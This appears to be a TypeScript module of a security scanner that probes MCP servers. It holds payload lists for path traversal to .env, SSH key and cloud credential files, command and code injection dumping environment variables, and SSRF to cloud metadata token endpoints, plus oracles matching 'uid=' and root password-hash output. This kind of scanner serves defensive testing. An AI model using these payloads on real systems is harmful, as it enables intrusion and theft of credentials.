import type { Grammar } from '../../engine/grammar.ts'
import type { Oracle } from '../../engine/oracle.ts'
import type { ParameterKind } from '../../targets/mcp-tools.ts'
import { RESTRICTED_TOOL_RAN, UNLISTED_TOOL_RAN } from '../../targets/mcp-words.ts'

/** Calls every tool of an MCP server with a value as argument: bare, since a tool that gets a sentence as path finds no file. */
export function probes(values: readonly string[]): Grammar {
  return {
    texts: ['{"method": "tools/call", "params": {"name": "*", "value": "{value}"}}'],
    words: { value: values.map((value) => JSON.stringify(value).slice(1, -1)) },
  }
}

type ValuesByKind = Readonly<Partial<Record<ParameterKind, readonly string[]>>>

/**
 * Calls every tool of an MCP server whose parameters take values of these kinds, by their names, descriptions and types.
 * @param always values of every attack
 * @param one alternatives; each attack sends one for each kind
 */
export function probesByKind(always: ValuesByKind, one: ValuesByKind = {}): Grammar {
  return valuesOf('{"method": "tools/call", "params": {"name": "*", "values": {', always, one)
}

/** Reads the resources of every template that a server lists, with these values in its variables. */
export function templateProbes(always: ValuesByKind, one: ValuesByKind = {}): Grammar {
  return valuesOf('{"method": "resources/read", "params": {"uri": "*", "values": {', always, one)
}

function valuesOf(start: string, always: ValuesByKind, one: ValuesByKind): Grammar {
  const escaped = (value: string): string => JSON.stringify(value).slice(1, -1)
  const kinds = [...new Set([...Object.keys(always), ...Object.keys(one)])] as readonly ParameterKind[]
  const members = kinds.map((kind) => {
    const values = [...(always[kind] ?? []).map(escaped), ...(one[kind] === undefined ? [] : [`{${kind}}`])]
    return `"${kind}": [${values.map((value) => `"${value}"`).join(', ')}]`
  })
  const words = Object.entries(one).map(([kind, values]) => [kind, values.map(escaped)])
  return { texts: [`${start}${members.join(', ')}}}}`], words: Object.fromEntries(words) }
}

/** Calls every reading tool with the identifiers that the server names itself, and with their neighbours. */
export const KNOWN_OBJECTS: Grammar = {
  texts: ['{"method": "tools/call", "params": {"name": "*", "known": true}}'],
  words: {},
}

/** Reads tables through a parameter that is open to SQL injection. */
export const TABLES: Grammar = {
  texts: ['{"method": "tools/call", "params": {"name": "*", "tables": true}}'],
  words: {},
}

/** Calls the tools that a server describes as restricted, on an object with an invented name. */
export const RESTRICTED_TOOLS: Grammar = {
  texts: ['{"method": "tools/call", "params": {"name": "*", "restricted": "{marker}"}}'],
  words: {},
}
export const RESTRICTED_CHANGES: Grammar = {
  texts: ['{"method": "tools/call", "params": {"name": "*", "restricted": "{marker}", "changing": true}}'],
  words: {},
}

/** The server ran a tool for a caller that its description excludes. */
export const RESTRICTED_TOOL: Oracle = {
  kind: 'parts',
  atLeast: 1,
  parts: [{ what: 'the result of a tool that the server restricts to other callers', anyOf: [RESTRICTED_TOOL_RAN] }],
  isVouchedFor: true,
}

/** Settings and credentials of the machine, by the kind of parameter that reaches them. */
const SETTINGS_ALWAYS: ValuesByKind = {
  path: ['.env', '../.env', '/proc/self/environ'],
  command: ['x; env'],
  code: ['process.env'],
  url: ['http://169.254.169.254/latest/meta-data/iam/security-credentials/'],
}
const SETTINGS_ONE: ValuesByKind = {
  path: [
    '../../.env',
    '../../../../../../proc/self/environ',
    '%2e%2e%2f.env',
    '/root/.aws/credentials',
    '../../../../../../root/.ssh/id_rsa',
    '../config/secrets.yml',
    'file:///proc/self/environ',
    '../.git/config',
  ],
  command: ['$(env)', '`env`', 'x | env', 'x && env', 'x" ; env ; echo "', "x' ; env ; echo '", 'x\nenv', 'env'],
  code: [
    "__import__('os').environ",
    "dict(__import__('os').environ)",
    'JSON.stringify(process.env)',
    "require('child_process').execSync('env').toString()",
    '{{ config.items() }}',
    'ENV.to_h',
    '${T(java.lang.System).getenv()}',
    "require('fs').readFileSync('/proc/self/environ','utf8')",
  ],
  url: [
    'http://metadata.google.internal/computeMetadata/v1/instance/service-accounts/default/token',
    'http://169.254.169.254/metadata/identity/oauth2/token?api-version=2018-02-01&resource=https://management.azure.com/',
    'http://[::ffff:a9fe:a9fe]/latest/meta-data/iam/security-credentials/',
    'http://2852039166/latest/meta-data/iam/security-credentials/',
    'http://169.254.170.2/v2/credentials/',
    'file:///proc/self/environ',
    'http://127.0.0.1:8500/v1/kv/?recurse',
    'http://localhost/.env',
  ],
}
/** Reads settings and credentials of the machine through every tool, and through every resource template. */
export const SETTINGS: Grammar = probesByKind(SETTINGS_ALWAYS, SETTINGS_ONE)
export const SETTINGS_OF_TEMPLATES: Grammar = templateProbes(
  { path: SETTINGS_ALWAYS.path! },
  { path: SETTINGS_ONE.path! },
)

/** Reads every resource, or gets every prompt, that an MCP server lists. */
export const READ_ALL: Grammar = {
  texts: ['{"method": "{read}", "params": {"{by}": "*", "value": "{value}"}}'],
  words: { read: ['resources/read'], by: ['uri'], value: ['1', 'all', 'admin', 'test'] },
}
export const GET_ALL: Grammar = {
  texts: ['{"method": "prompts/get", "params": {"name": "*", "value": "{value}"}}'],
  words: { value: ['1', 'all', 'admin', 'test'] },
}

/** The server ran a tool that it does not list. */
export const UNLISTED_TOOL: Oracle = {
  kind: 'parts',
  atLeast: 1,
  parts: [{ what: 'the result of a tool that the server does not list', anyOf: [UNLISTED_TOOL_RAN] }],
  isVouchedFor: true,
}

/** Output of `id`: no text that quotes the command contains it. */
export const COMMAND_OUTPUT: Extract<Oracle, { kind: 'parts' }> = {
  kind: 'parts',
  atLeast: 1,
  parts: [
    {
      what: 'the output of a command about its account',
      anyOf: [0, 1, 33, 100, 101, 500, 501, 999, 1000, 1001, 10_001, 65_532, 65_534].map((id) => `uid=${id}`),
    },
  ],
}

/** Output of `id`, or log lines of an agent that runs commands: the latter alone are a partial success. */
export const COMMAND_REPORTED: Oracle = {
  ...COMMAND_OUTPUT,
  atLeast: 2,
  parts: [
    ...COMMAND_OUTPUT.parts,
    { what: 'a hash of a password', anyOf: ['root:$6$', 'root:$5$', 'root:$y$', 'root:$1$', 'root:*:', 'root:!:'] },
    {
      what: 'a report of a running command',
      anyOf: ['running command', 'executing command', 'command executed', 'command output'],
    },
  ],
}
